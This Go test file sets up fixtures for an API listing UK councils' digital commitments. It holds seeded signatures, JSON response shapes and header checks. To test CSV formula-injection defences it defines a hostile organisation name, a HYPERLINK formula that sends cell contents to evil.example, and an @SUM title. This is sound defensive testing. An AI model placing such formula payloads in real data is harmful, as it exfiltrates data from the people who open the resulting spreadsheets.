package api

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/localdigital/localdigital/internal/model"
	"github.com/localdigital/localdigital/internal/store"
	"github.com/localdigital/localdigital/internal/testdb"
)

const testBase = "https://localdigital.example.gov.uk"

var testActor = model.Actor{Label: "test"}

// openDB returns a migrated SQLite database in a temporary folder.
func openDB(tb testing.TB) *store.DB {
	tb.Helper()
	ctx := context.Background()
	db, err := store.Open(ctx, testdb.Migrated(tb, os.Getenv, store.MigrateURL))
	if err != nil {
		tb.Fatalf("open: %v", err)
	}
	tb.Cleanup(func() { db.Close() })
	if _, err := db.Migrate(ctx); err != nil {
		tb.Fatalf("migrate: %v", err)
	}
	return db
}

// Real councils from shared/data/uk_local_authorities.csv: two names with an ampersand,
// one with commas, and one from each nation outside England.
var (
	telford = model.Organisation{Name: "Telford & Wrekin Council", OfficialName: "Telford & Wrekin Council",
		TypeCode: "UA", TypeName: "Unitary authority", Nation: "England", Region: "West Midlands",
		GSSCode: "E06000020", LACode: "TFW", Website: "http://www.telford.gov.uk"}
	hammersmith = model.Organisation{Name: "London Borough of Hammersmith & Fulham",
		OfficialName: "London Borough of Hammersmith & Fulham", TypeCode: "LBO", TypeName: "London borough",
		Nation: "England", Region: "London", GSSCode: "E09000013", LACode: "HMF", Website: "http://www.lbhf.gov.uk/"}
	bcp = model.Organisation{Name: "Bournemouth, Christchurch and Poole Council",
		OfficialName: "Bournemouth, Christchurch and Poole Council", TypeCode: "UA", TypeName: "Unitary authority",
		Nation: "England", Region: "South West", GSSCode: "E06000058", LACode: "BPC", Website: "https://www.bcpcouncil.gov.uk/"}
	fife = model.Organisation{Name: "Fife Council", OfficialName: "Fife Council", TypeCode: "SCO",
		TypeName: "Scottish unitary authority", Nation: "Scotland", Region: "Scotland", GSSCode: "S12000047",
		LACode: "FIF", Website: "https://www.fife.gov.uk/"}
	adur = model.Organisation{Name: "Adur District Council", OfficialName: "Adur District Council", TypeCode: "NMD",
		TypeName: "Non-metropolitan district", Nation: "England", Region: "South East", GSSCode: "E07000223",
		LACode: "ADU", Website: "https://www.adur-worthing.gov.uk/"}
	cardiff = model.Organisation{Name: "City of Cardiff Council", OfficialName: "City of Cardiff Council",
		TypeCode: "WPA", TypeName: "Welsh unitary authority", Nation: "Wales", Region: "Wales", GSSCode: "W06000015",
		LACode: "CRF", Website: "https://www.cardiff.gov.uk/"}
	belfast = model.Organisation{Name: "Belfast City Council", OfficialName: "Belfast City Council", TypeCode: "NID",
		TypeName: "NI district", Nation: "Northern Ireland", Region: "Northern Ireland", GSSCode: "N09000003",
		LACode: "BFS", Website: "https://www.belfastcity.gov.uk/"}
)

// The hostile organisation and commitment title, to check CSV formula injection.
const (
	hostileName  = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	hostileTitle = "@SUM(1+1) shared case management"
)

// fixture is a small register: five published signatures (one withdrawn), two in
// progress and one organisation that never started.
type fixture struct {
	db      *store.DB
	api     *API
	handler http.Handler
	orgs    map[string]*model.Organisation // by LA code, "EVIL" for the hostile one
}

func newFixture(tb testing.TB) *fixture {
	tb.Helper()
	db := openDB(tb)
	ctx := context.Background()
	orgs := []model.Organisation{telford, hammersmith, bcp, fife, adur, cardiff, belfast}
	if _, err := db.ImportOrganisations(ctx, testActor, orgs); err != nil {
		tb.Fatalf("import: %v", err)
	}
	evil := &model.Organisation{Name: hostileName, TypeCode: "OTHER", TypeName: "Other organisation"}
	if err := db.CreateOrganisation(ctx, testActor, evil); err != nil {
		tb.Fatalf("create hostile organisation: %v", err)
	}
	f := &fixture{db: db, api: New(db, testBase+"/", nil), orgs: map[string]*model.Organisation{"EVIL": evil}}
	for i := range orgs {
		f.orgs[orgs[i].LACode] = &orgs[i]
	}
	f.handler = mux(f.api)
	f.seedSignatures(tb)
	return f
}

func (f *fixture) seedSignatures(tb testing.TB) {
	day := func(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 10, 30, 0, 0, time.UTC) }
	hmf := publish(tb, f.db, f.orgs["HMF"].ID, "Open housing repairs data", day(2018, time.July, 4))
	publish(tb, f.db, f.orgs["TFW"].ID, "Planning & building control API", day(2019, time.March, 1))
	publish(tb, f.db, f.orgs["BPC"].ID, "Reusable waste collection service", day(2020, time.June, 15))
	publish(tb, f.db, f.orgs["FIF"].ID, "Shared school admissions", day(2022, time.January, 10))
	publish(tb, f.db, f.orgs["EVIL"].ID, hostileTitle, day(2023, time.May, 2))
	f.db.Now = fixedClock(day(2021, time.September, 30))
	if _, err := f.db.WithdrawSignature(context.Background(), testActor, hmf, "Merged its digital team into a shared service.", nil); err != nil {
		tb.Fatalf("withdraw: %v", err)
	}
	start(tb, f.db, f.orgs["ADU"].ID, "Awaiting verification", day(2024, time.February, 1), true)
	start(tb, f.db, f.orgs["BFS"].ID, "Awaiting signers", day(2024, time.February, 2), false)
}

func fixedClock(t time.Time) func() time.Time { return func() time.Time { return t } }

var tokenSeq int

// start begins a signature with one senior signer at time at, and has the signer
// confirm it when confirm is true.
func start(tb testing.TB, db *store.DB, orgID int64, title string, at time.Time, confirm bool) int64 {
	tb.Helper()
	ctx := context.Background()
	db.Now = fixedClock(at)
	tokenSeq++
	hash := fmt.Sprintf("%064x", tokenSeq)
	sig := &model.Signature{OrganisationID: orgID, DeclarationVersion: 1,
		Commitment: model.Commitment{Title: title, Mission: "Deliver it within a year.", Impact: "Residents benefit."},
		Signers: []model.Signer{{Kind: model.SignerSenior, Name: "Sam Senior", Role: "Chief executive",
			Email: fmt.Sprintf("senior%d@example.gov.uk", tokenSeq)}}}
	if err := db.StartSignature(ctx, testActor, sig, []string{hash}, nil); err != nil {
		tb.Fatalf("start signature: %v", err)
	}
	if confirm {
		if _, err := db.RespondAsSigner(ctx, hash, true, nil); err != nil {
			tb.Fatalf("confirm signature: %v", err)
		}
	}
	return sig.ID
}

// publish takes a signature through every step to verified, at time at.
func publish(tb testing.TB, db *store.DB, orgID int64, title string, at time.Time) int64 {
	tb.Helper()
	id := start(tb, db, orgID, title, at, true)
	if _, err := db.VerifySignature(context.Background(), testActor, id, nil); err != nil {
		tb.Fatalf("verify signature: %v", err)
	}
	return id
}

// parts are the open data of every feature, as the web package's features hold them.
func parts(a *API) []Part {
	return []Part{a.RegisterPart(), a.ResourcesPart(), a.CaseStudiesPart(), a.EventsPart()}
}

// routes are the API's routes for every part.
func routes(tb testing.TB, a *API) []Route {
	tb.Helper()
	rs, err := a.Routes(parts(a)...)
	if err != nil {
		tb.Fatal(err)
	}
	return rs
}

// mux mounts the API's routes as the web package will.
func mux(a *API) *http.ServeMux {
	m := http.NewServeMux()
	rs, err := a.Routes(parts(a)...)
	if err != nil {
		panic(err)
	}
	for _, rt := range rs {
		m.HandleFunc(rt.Pattern, rt.Handler)
	}
	return m
}

func (f *fixture) get(tb testing.TB, target string) *httptest.ResponseRecorder {
	tb.Helper()
	return do(f.handler, http.MethodGet, target)
}

func do(h http.Handler, method, target string) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	h.ServeHTTP(w, httptest.NewRequest(method, target, nil))
	return w
}

// checkHeaders checks what every GET response carries.
func checkHeaders(tb testing.TB, w *httptest.ResponseRecorder, status int, contentType string) {
	tb.Helper()
	if w.Code != status {
		tb.Fatalf("status = %d, want %d; body: %s", w.Code, status, w.Body)
	}
	want := map[string]string{
		"Content-Type":                contentType,
		"Access-Control-Allow-Origin": "*",
		"Cache-Control":               "no-cache",
		"X-Content-Type-Options":      "nosniff",
	}
	for k, v := range want {
		if got := w.Header().Get(k); got != v {
			tb.Errorf("%s = %q, want %q", k, got, v)
		}
	}
}

const jsonType = "application/json; charset=utf-8"

func decode[T any](tb testing.TB, w *httptest.ResponseRecorder) T {
	tb.Helper()
	var v T
	dec := json.NewDecoder(strings.NewReader(w.Body.String()))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&v); err != nil {
		tb.Fatalf("decode %T: %v; body: %s", v, err, w.Body)
	}
	return v
}

// Shapes a client would decode into, written out here so that a change to the
// response's field names fails the tests.
type signatureOut struct {
	Status          string  `json:"status"`
	SignedOn        string  `json:"signed_on"`
	WithdrawnOn     *string `json:"withdrawn_on"`
	WithdrawnReason *string `json:"withdrawn_reason"`
	CommitmentTitle string  `json:"commitment_title"`
	// CommitmentLanguage is the language the commitment was written in.
	CommitmentLanguage string `json:"commitment_language"`
	// CommitmentStatus is where the commitment stands in its year; null if not followed.
	CommitmentStatus *string `json:"commitment_status"`
}

type entryOut struct {
	Name         string        `json:"name"`
	OfficialName string        `json:"official_name"`
	Slug         string        `json:"slug"`
	TypeCode     string        `json:"type_code"`
	TypeName     string        `json:"type_name"`
	GSSCode      string        `json:"gss_code"`
	LACode       string        `json:"local_authority_code"`
	Nation       string        `json:"nation"`
	Region       string        `json:"region"`
	Website      string        `json:"website"`
	Signed       *bool         `json:"signed"`
	Signature    *signatureOut `json:"signature"`
	URL          string        `json:"url"`
}

type linksOut struct {
	Self string  `json:"self"`
	Next *string `json:"next"`
	Prev *string `json:"prev"`
	CSV  string  `json:"csv"`
}

type pageOut struct {
	Total   int        `json:"total"`
	Page    int        `json:"page"`
	PerPage int        `json:"per_page"`
	Data    []entryOut `json:"data"`
	Links   linksOut   `json:"links"`
}

type errorOut struct {
	Error struct {
		Code    string `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
}

func names(p pageOut) []string {
	out := make([]string, len(p.Data))
	for i, e := range p.Data {
		out[i] = e.Name
	}
	return out
}

func byName(p pageOut) map[string]entryOut {
	m := map[string]entryOut{}
	for _, e := range p.Data {
		m[e.Name] = e
	}
	return m
}

// logBuffer returns a logger that writes to a buffer the test can read.
func logBuffer() (*slog.Logger, *strings.Builder) {
	var b strings.Builder
	return slog.New(slog.NewTextHandler(&b, nil)), &b
}
